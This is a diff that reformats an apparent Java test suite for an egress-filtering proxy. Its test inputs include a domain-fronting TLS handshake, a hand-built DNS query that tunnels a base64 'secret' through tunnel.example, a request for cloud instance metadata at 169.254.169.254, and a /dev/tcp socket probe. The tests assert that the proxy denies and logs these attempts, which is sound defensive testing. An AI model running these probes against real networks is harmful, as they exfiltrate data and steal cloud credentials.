@@ -69,19 +69,22 @@ final class EgressTest {
             assertThat(tunnel).contains("HTTP/1.1 200 ").endsWith("\r\n\r\n" + Upstream.BODY);
             assertThat(upstream.requests())
                     .containsExactly(
-                            "GET /direct HTTP/1.1", "GET /forward HTTP/1.1", "GET /tunnel HTTP/1.1");
+                            "GET /direct HTTP/1.1",
+                            "GET /forward HTTP/1.1",
+                            "GET /tunnel HTTP/1.1");
 
             List<RecordView> decisions = node.records("kind=decision&agent=granted");
             assertThat(decisions)
                     .extracting(record -> record.detail().get("route"))
                     .contains("transparent", "forward", "connect");
-            assertThat(decisions).allMatch(record -> record.decision().equals(Optional.of("allow")));
-            assertThat(decisions).anyMatch(record -> record.policies().contains("granted.cedar#test-upstream"));
+            assertThat(decisions)
+                    .allMatch(record -> record.decision().equals(Optional.of("allow")));
+            assertThat(decisions)
+                    .anyMatch(record -> record.policies().contains("granted.cedar#test-upstream"));
             assertThat(node.records("kind=flow&agent=granted"))
-                    .anySatisfy(
-                            flow ->
-                                    assertThat(flow.sizes().get("received-bytes"))
-                                            .isGreaterThan(Upstream.BODY.length()));
+                    .anySatisfy(flow ->
+                            assertThat(flow.sizes().get("received-bytes"))
+                                    .isGreaterThan(Upstream.BODY.length()));
         }
     }
 
@@ -185,7 +188,8 @@ final class EgressTest {
     @Test
     void aHandshakeForAnotherNameIsRefused() {
         Facilities.program("openssl");
-        String shake = "timeout 10 openssl s_client -connect a.example:443 -servername front.example";
+        String shake =
+                "timeout 10 openssl s_client -connect a.example:443 -servername front.example";
         for (String through : List.of("", " -proxy 127.0.0.1:3128")) {
             Binary.Done done =
                     node.run(
@@ -196,10 +200,9 @@ final class EgressTest {
         }
         assertThat(node.records("agent=fronting&decision=deny&kind=decision"))
                 .hasSize(2)
-                .allSatisfy(
-                        record ->
-                                assertThat(record.reasons().getFirst())
-                                        .contains("front.example", "a.example"));
+                .allSatisfy(record ->
+                        assertThat(record.reasons().getFirst())
+                                .contains("front.example", "a.example"));
     }
 
     @Test
@@ -214,9 +217,15 @@ final class EgressTest {
                   my $s = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 53, Proto => "udp") or die "none: $!";
                   my $q = pack("n6", 7, 0x0100, 1, 0, 0, 0) . join("", map { pack("C/a*", $_) } split(/\\./, $name)) . pack("Cn2", 0, $type, 1);
                   $s->send($q); $SIG{ALRM} = sub { print "silence\\n"; exit }; alarm 3; $s->recv(my $a, 512);
-                  my @h = unpack("n6", $a); printf "rcode %d answers %d\\n", $h[1] & 15, $h[3];'\s""";
+                  my @h = unpack("n6", $a); printf "rcode %d answers %d\\n", $h[1] & 15, $h[3];'\
+                """
+                        + " ";
         String script =
-                query + "c2VjcmV0.tunnel.example 16; " + query + "host.example 1; " + query
+                query
+                        + "c2VjcmV0.tunnel.example 16; "
+                        + query
+                        + "host.example 1; "
+                        + query
                         + "host.example 28";
         List<String> answers = told(List.of("--agent", "dns"), script).lines().toList();
         assertThat(answers).hasSize(3);
@@ -233,7 +242,10 @@ final class EgressTest {
                         List.of("--agent", "prober", "--policy", "observe"),
                         "printf 'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n' | say 169.254.169.254 80;"
                                 + " (exec 4<>/dev/tcp/2001:db8::1/80) 2>&1 && echo OPEN; true");
-        assertThat(answer).startsWith("HTTP/1.1 403 ").doesNotContain("OPEN").contains("2001:db8::1");
+        assertThat(answer)
+                .startsWith("HTTP/1.1 403 ")
+                .doesNotContain("OPEN")
+                .contains("2001:db8::1");
         assertThat(node.records("agent=prober&destination=169.254.169.254"))
                 .isNotEmpty()
                 .allMatch(record -> !record.decision().equals(Optional.of("allow")));
@@ -256,11 +268,10 @@ final class EgressTest {
                             .ok()
                             .out();
             assertThat(found.lines())
-                    .anyMatch(
-                            line ->
-                                    line.contains("seen/" + run)
-                                            && line.contains("owner root")
-                                            && line.contains("job=seen"));
+                    .anyMatch(line ->
+                            line.contains("seen/" + run)
+                                    && line.contains("owner root")
+                                    && line.contains("job=seen"));
             Binary.Done none =
                     node.rein(
                             "activity",
